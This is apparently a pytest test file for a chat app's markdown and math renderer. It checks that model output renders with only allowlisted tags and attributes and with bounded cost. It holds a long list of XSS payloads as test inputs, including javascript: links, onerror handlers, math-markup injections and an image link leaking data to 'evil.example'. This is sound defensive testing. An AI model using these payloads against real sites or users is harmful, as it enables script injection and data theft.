"""Model output is hostile: whatever it says, nothing in the page runs, loads or leaves by itself."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chat.rendering.blocks import render
from chat.rendering.markdown import LiveMarkdown, render_blocks
from chat.rendering.math import ATTRIBUTES as MATH_ATTRIBUTES
from chat.rendering.math import TAGS as MATH_TAGS
from tests.dom import parse

CORPUS = sorted((Path(__file__).parent / "corpus").glob("*.md"))

TAGS = MATH_TAGS | set(
    "p h3 h4 h5 h6 ul ol li blockquote hr br em strong s a code pre div span table thead tbody tr th td button"  # noqa: SIM905
    " input".split()
)
ATTRIBUTES = MATH_ATTRIBUTES | {
    "class", "href", "title", "rel", "target", "start", "type", "checked", "disabled", "data-copy",
    "data-show-image", "data-src", "data-alt", "data-made", "data-page", "data-file",
}  # fmt: skip

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action='https://evil.example'><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: https://a.example '\"><script>alert(1)</script>'",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "https://a.example/\"onmouseover=alert(1)",
    "![x](https://evil.example/leak?d=secret)",
    "![x](//evil.example/leak)",
    "![\" onerror=\"alert(1)](https://a.example/i.png)",
    "![<img src=x onerror=alert(1)>](https://a.example/i.png)",
    "![x](https://a.example/\"><script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n</code></pre></div><script>alert(1)</script>\n```",
    "```x onclick=alert(1)\ny\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed;inset:0}{x}$",
    "$\\class{\" onclick=alert(1)}{x}$",
    "$\\color{red\" onclick=\"alert(1)}{x}$",
    "$\\unicode{x3c}\\unicode{x3e}$",
    "$&#x3c;script&#x3e;alert(1)$",
    "$\\rule{1em\"}{2em onclick=alert(1)}$",
    "$\\newcommand{\\x}{<script>}\\x$",
    "$$\n\\begin{array}{c\" onload=alert(1)}x\\end{array}\n$$",
    "\\(\\verb|<script>alert(1)</script>|\\)",
    "- [x] <input autofocus onfocus=alert(1)>",
    "# <h1 onclick=alert(1)>",
    "[^1]: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a\nhref=javascript:alert(1)\n>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]  # fmt: skip


def assert_harmless(html: str) -> None:
    for element in parse(html).walk():
        assert element.tag in TAGS, html
        for name, value in element.attributes.items():
            assert name in ATTRIBUTES, html
            if name == "href" and element.attributes.get("class") == "page-ref":
                assert re.fullmatch(r"#page-\d{1,5}", value or ""), html
            elif name == "href":
                assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), html
                assert element.attributes["rel"] == "noopener noreferrer nofollow"
                assert element.attributes["target"] == "_blank"
            if name == "data-made":
                assert re.match(r"(sandbox|made):", value or "", re.IGNORECASE), html
            if name == "data-src":
                assert re.match(r"https?://", value or "", re.IGNORECASE), html


def assert_safe(text: str, step: int) -> None:
    for html in render_blocks(text):
        assert_harmless(html)
    live = LiveMarkdown()
    for at in range(0, len(text), step):
        live.append(text[at : at + step])
        assert_harmless(live.open_html)
        for html in live.closed:
            assert_harmless(html)


@pytest.mark.parametrize("before", ["", "text ", "- ", "> ", "| a |\n|---|\n| "])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_runs_or_loads(hostile: str, before: str) -> None:
    assert_safe(before + hostile, step=3)


@pytest.mark.parametrize("path", CORPUS, ids=lambda path: path.stem)
def test_the_documents_are_harmless_too(path: Path) -> None:
    assert_safe(path.read_bytes().decode(), step=17)


MARKS = st.sampled_from([
    *"<>[]()!*_`~#|\\$&\"'=:/-+.1 \n\t\r", "\x00", "\ud800", "\udc00", "http://", "javascript:", "<script", " onclick=",
    " style=", "data:", "&#x3c;", "![", "](", "```", "$$", "\\[", "\\(", "\\frac{", "\\text{<", "- [x] ", "[a]: ", "|---|", "\u2028",
])  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(MARKS, st.text(max_size=5)), max_size=40).map("".join))
@example("[x](http://[)")
@example("https://[")
def test_garbage_is_text(text: str) -> None:
    assert_safe(text, step=7)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_can_be_shown(text: str) -> None:
    assert_safe(text, step=31)


SIZE = 10_000
PATHOLOGICAL = {
    "quotes": ">" * SIZE,
    "quotes apart": "> " * SIZE,
    "brackets": "[" * SIZE,
    "images": "![" * SIZE,
    "links": "[a](" * SIZE,
    "stars": "*" * SIZE,
    "open emphasis": "*a " * SIZE,
    "nested emphasis": "*a " * SIZE + "a* " * SIZE,
    "mixed emphasis": "*_" * SIZE,
    "strikes": "~~a" * SIZE,
    "backticks": "".join("`" * n + " " for n in range(1, 200)),
    "dollars": "$a " * SIZE,
    "open math": "\\(" * SIZE,
    "open math lines": "$$ a\n\n" * SIZE,
    "colons": ":" * 10 * SIZE,
    "addresses": "https://" * SIZE,
    "closing brackets behind an address": "https://a" + ")" * SIZE,
    "angles": "<http://a" * SIZE,
    "definitions": "[a]: http://x\n\n" * SIZE,
    "open definitions": "[a\n" * SIZE,
    "list in list": "- " * SIZE,
    "steps": "".join("  " * n + "- a\n" for n in range(300)),
    "wide table": "|a" * SIZE + "\n" + "|-" * SIZE + "\n" + "|x\n" * SIZE,
    "one line": "a" * 20 * SIZE,
    "one line of words": "word " * 4 * SIZE,
    "table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * (SIZE // 2),
    "open fence": "```python\n" + "x = '''\n" * SIZE,
    "strings": '```python\n' + "'" * SIZE + "\n```",
    "braces": "$" + "{" * 900 + "}" * 900 + "$",
}  # fmt: skip


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_a_hostile_shape_costs_no_more_than_its_length(name: str) -> None:
    """Ten times what these take here; a cost that grows with the square would need minutes."""
    text = PATHOLOGICAL[name]
    before = time.process_time()
    blocks = render(text, {})
    assert time.process_time() - before < 10 * max(0.1, len(text) * 20e-6)
    assert all(isinstance(html, str) for html in blocks)


@pytest.mark.parametrize("mark", ["> ", "- ", "*a "])
def test_nesting_is_bounded_and_no_word_is_lost(mark: str) -> None:
    html = "".join(render_blocks(mark * 500 + "the end"))
    deepest = depth = 0
    for tag in re.finditer(r"<(/?)(?!br|hr|input)[a-z]", html):
        depth += -1 if tag[1] else 1
        deepest = max(deepest, depth)
    assert deepest < 45
    assert "the end" in html
